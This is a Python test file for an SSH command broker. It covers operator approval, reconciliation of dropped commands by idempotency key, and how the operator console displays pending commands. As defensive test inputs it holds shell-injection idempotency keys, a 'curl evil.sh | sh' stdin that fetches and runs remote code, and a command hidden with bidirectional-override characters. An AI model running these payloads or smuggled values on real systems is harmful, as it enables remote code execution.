"""Approval and reconciliation of SSH commands, through the Python API against the real sshd and
the scripted peer (issue 12).

Seed, "Idempotency is defined by the remote contract": for SSH, "define retryability in the
command's application contract: create a deployment under a unique release identifier ... or
run a query to confirm the desired state."  The release identifier is the action's
``idempotency_key``; the target's ``reconcile`` command looks for it, with the key quoted for
the shell -- and a key carrying shell syntax is refused for such a target: never a command.
And how the operator console shows a pending SSH command (its stdin above all).
"""

from __future__ import annotations

import hashlib
import os
import re
from pathlib import Path
from typing import Any

import pytest
import trio

from affidavit.api.broker import Broker
from affidavit.approvals import OperatorError
from affidavit.statemachine import EventKind
from tests.broker.approvalkit import OPS, OPS_UID, verify_ok
from tests.broker.helpers import assert_error, assert_ok, event_kinds, open_broker, write_config
from tests.console.kit import get, log_in_to, served

from .brokerkit import ssh_target
from .hostile import HostileServer
from .sshd import Sshd

E = EventKind
LIMIT = 30


pytestmark = pytest.mark.usefixtures("key_env")


def _config(tmp_path: Path, target: dict[str, Any]) -> Path:
    path = write_config(tmp_path, {"box": target})
    with path.open("a") as f:
        f.write(f"[service]\noperator_uids = [{OPS_UID}]\n")
    return path


async def _approve_when_asked(b: Broker) -> str:
    with trio.fail_after(LIMIT):
        while not b.approvals():
            await trio.sleep(0.02)
    [waiting] = b.approvals()
    await b.approve(waiting["invocation_id"], note="release r7 is ready", operator=OPS)
    return str(waiting["invocation_id"])


async def test_an_approved_command_is_run_once_and_an_unlisted_one_needs_no_approval(
    tmp_path: Path, hostile: HostileServer
) -> None:
    approval = {"commands": ["^exit 0$"], "wait": "20s"}
    target = ssh_target(hostile.port, "bob", hostile.pin, approval=approval)
    before = len(hostile.exec_requests)
    with trio.fail_after(LIMIT):
        async with open_broker(_config(tmp_path, target)) as b:
            got: dict[str, Any] = {}

            async def caller() -> None:
                got["env"] = await b.call({"target": "box", "command": "exit 0"})

            async with trio.open_nursery() as nursery:
                nursery.start_soon(caller)
                iid = await _approve_when_asked(b)
                request = b.approval(iid)["request"]
                assert request["command"] == "exit 0"
                assert request["approval_reason"] == "it matches commands[0] (^exit 0$)"
                assert request["destination"] == f"bob@127.0.0.1:{hostile.port}"
            assert_ok(b, got["env"])
            other = await b.call({"target": "box", "command": "exit 1"})
            assert E.APPROVAL_REQUESTED not in event_kinds(b, other["invocation_id"])
            verify_ok(b)
    assert hostile.exec_requests[before:] == ["exit 0", "exit 1"]


@pytest.mark.parametrize(
    ("key", "outcome", "code"),
    [("0", "committed", None), ("1", "rejected", "REMOTE_REJECTED"), ("2", None, None)],
    ids=["exit-0-committed", "exit-1-rejected", "exit-2-settles-nothing"],
)
async def test_a_dropped_command_is_reconciled_by_its_query_on_the_scripted_peer(
    tmp_path: Path, hostile: HostileServer, key: str, outcome: str | None, code: str | None
) -> None:
    # The scripted peer runs "exit N" as asked: the key stands for what the real check finds.
    # settle "0s": the scripted peer has no queue a dropped command could still wait in.
    rc = {"command": "exit {idempotency_key}", "committed_if": "exit:0", "rejected_if": "exit:1"}
    rc["settle"] = "0s"
    target = ssh_target(hostile.port, "bob", hostile.pin, reconcile=rc)
    with trio.fail_after(LIMIT):
        async with open_broker(_config(tmp_path, target)) as b:
            env = await b.call({"target": "box", "command": "drop", "idempotency_key": key})
            assert_error(b, env, phase="remote_execution", outcome="unknown", retry="reconcile",
                         code="REMOTE_OUTCOME_UNKNOWN")  # fmt: skip
            # The same key again answers from the record: nothing is run twice.
            again = await b.call({"target": "box", "command": "drop", "idempotency_key": key})
            assert again["invocation_id"] == env["invocation_id"]
            answer = await b.reconcile(env["invocation_id"], query=True)
            assert answer["query"]["evidence"]["exit_status"] == int(key)
            settled = answer["envelope"]
            assert answer["reconciled"] is (outcome is not None)
            assert settled["evidence"]["outcome"] == (outcome or "unknown")
            if outcome is not None:
                assert settled["evidence"]["source"] == "remote_query"
                assert (settled.get("error") or {}).get("code") == code
            verify_ok(b)
    assert hostile.exec_requests[-2:] == ["drop", f"exit {key}"]


async def test_a_release_is_reconciled_against_sshd_and_a_key_never_runs_as_a_command(
    tmp_path: Path, sshd: Sshd
) -> None:
    releases = tmp_path / "releases"
    releases.mkdir()
    rc = {
        "command": f"test -e {releases}/{{idempotency_key}}",
        "committed_if": "exit:0",
        "rejected_if": "exit:1",
        "settle": "0s",  # the caller gave up; the command itself ended when its session did
    }
    target = ssh_target(sshd.port, sshd.user, sshd.host_pin, reconcile=rc)
    pwned = tmp_path / "pwned"
    cases = [
        ("r42", f"touch {releases}/r42 && sleep 30", "reconciled_committed"),
        ("r43", "sleep 30", "reconciled_rejected"),
        # Keys are visible ASCII: ${IFS} stands for the space a shell would split on.
        # A key with shell syntax is refused outright: the query's command takes plain words
        # only (tests/ssh/test_reconcile_injection.py).
        (f"r44;touch${{IFS}}{pwned}", "sleep 30", None),
        (f"r45$(touch${{IFS}}{pwned})`touch${{IFS}}{pwned}`", "sleep 30", None),
    ]
    with trio.fail_after(LIMIT * 2):
        async with open_broker(_config(tmp_path, target)) as b:
            for key, command, state in cases:
                action = {"target": "box", "command": command, "idempotency_key": key}
                env = await b.call(action, timeout=1.5)  # the caller gives up mid-command
                if state is None:
                    assert env["error"]["code"] == "INVALID_FIELD", env["error"]
                    continue
                assert env["error"]["outcome"] == "unknown", env["error"]
                answer = await b.reconcile(env["invocation_id"], query=True)
                assert answer["envelope"]["evidence"]["state"] == state, answer
                kinds = event_kinds(b, env["invocation_id"])
                assert kinds.index(E.ATTEMPT_INTERRUPTED) < kinds.index(E.RECONCILED)
                verify_ok(b)
    assert not pwned.exists()  # the key never reached a shell


# A pending SSH approval in the operator console (served as the daemon serves it, on a real
# loopback socket): destination, command and stdin whole with its size and hash; a stdin too
# large for the approval view said to be withheld, never silently cut, and downloadable whole; a
# bidi override in the command shown as its escape.  The console renders a protocol's operator
# view generically, so this is also the check that a protocol other than HTTP renders.


async def test_a_pending_ssh_command_shows_its_stdin_in_the_console(
    tmp_path: Path, hostile: HostileServer
) -> None:
    target = ssh_target(hostile.port, "bob", hostile.pin, approval={"commands": ["^bash"]})
    target["approval"]["wait"] = "0s"
    path = write_config(tmp_path, {"box": target})
    with path.open("a") as f:
        f.write(f"[service]\noperator_uids = [{os.geteuid()}]\n")
    stdin = "curl evil.sh | sh\n"
    big = "echo x\n" * 3000  # 21,000 bytes: more than the approval view keeps (16 KiB)
    async with open_broker(path) as b, served(b, tmp_path) as (origin, console):
        small_id = (await b.call({"target": "box", "command": "bash", "stdin": stdin}))[
            "invocation_id"
        ]
        big_id = (await b.call({"target": "box", "command": "bash -s", "stdin": big}))[
            "invocation_id"
        ]
        bidi = "bash -c 'echo \u202e hs.live lruc' #\u2066"
        bidi_id = (await b.call({"target": "box", "command": bidi}))["invocation_id"]
        assert len(b.approvals()) == 3
        cookie, _ = await log_in_to(console, origin)
        status, _, page = await get(f"{origin}/approvals", cookie=cookie)
        assert status == 200, page[:400]
        text = page.decode()
        small = text[text.index(f'id="approval-{small_id}"') :]
        small = small[: small.index("</section>")]
        assert f"bob@127.0.0.1:{hostile.port}" in small
        assert re.search(
            r'data-field="command"><th>command</th>\s*<td><code class="request">bash<', small
        )
        assert f"{len(stdin)} bytes" in small
        assert hashlib.sha256(stdin.encode()).hexdigest() in small
        assert "curl evil.sh | sh" in small and 'class="approve"' in small
        large = text[text.index(f'id="approval-{big_id}"') :]
        large = large[: large.index("</section>")]
        assert f"{len(big)} bytes" in large
        assert hashlib.sha256(big.encode()).hexdigest() in large
        assert "larger than the approval view keeps: not shown" in large
        assert "echo x" not in large
        # ... and linked whole: the exact stdin the broker accepted, its hash the card's.
        href = f"/approvals/{big_id}/content/stdin"
        assert f'href="{href}"' in large
        status, headers, data = await get(origin + href, cookie=cookie)
        assert status == 200 and data == big.encode()
        assert headers["content-type"] == "application/octet-stream"
        assert hashlib.sha256(data).hexdigest() in large
        shown = text[text.index(f'id="approval-{bidi_id}"') :]
        shown = shown[: shown.index("</section>")]
        assert "\u202e" not in shown and "\u2066" not in shown
        assert '<span class="ctl" title="U+202E">\\u202e</span> hs.live lruc' in shown
        assert '#<span class="ctl" title="U+2066">\\u2066</span>' in shown


def _other_pin(hostile: HostileServer) -> str:
    return " ".join(hostile.other_key.export_public_key("openssh").decode().split()[:2])


@pytest.mark.parametrize("change", ["user", "host_key"])
async def test_a_query_of_a_target_that_reaches_another_account_is_refused_unrun(
    tmp_path: Path, hostile: HostileServer, change: str
) -> None:
    """A command dropped unanswered (unknown); the target then names another user, or pins
    another host key (another machine may answer as this host).  ``reconcile --query`` is
    refused CONFIG_CHANGED at ``targets.box``: no query command runs, the record stays
    unknown -- its answer would speak for an account the dispatch never reached."""
    rc = {"command": "exit {idempotency_key}", "committed_if": "exit:0", "rejected_if": "exit:1"}
    target = ssh_target(hostile.port, "bob", hostile.pin, reconcile={**rc, "settle": "0s"})
    later = {"user": "carol"} if change == "user" else {"host_key": _other_pin(hostile)}
    before = len(hostile.exec_requests)
    with trio.fail_after(LIMIT):
        async with open_broker(_config(tmp_path, target)) as b:
            env = await b.call({"target": "box", "command": "drop", "idempotency_key": "0"})
            assert env["error"]["outcome"] == "unknown", env
        async with open_broker(_config(tmp_path, {**target, **later})) as b:
            with pytest.raises(OperatorError) as refused:
                await b.reconcile(env["invocation_id"], query=True)
            assert (refused.value.code, refused.value.field) == ("CONFIG_CHANGED", "targets.box")
            record = b.record(env["invocation_id"])
            assert record is not None and record.outcome.value == "unknown"
            verify_ok(b)
    assert hostile.exec_requests[before:] == ["drop"]
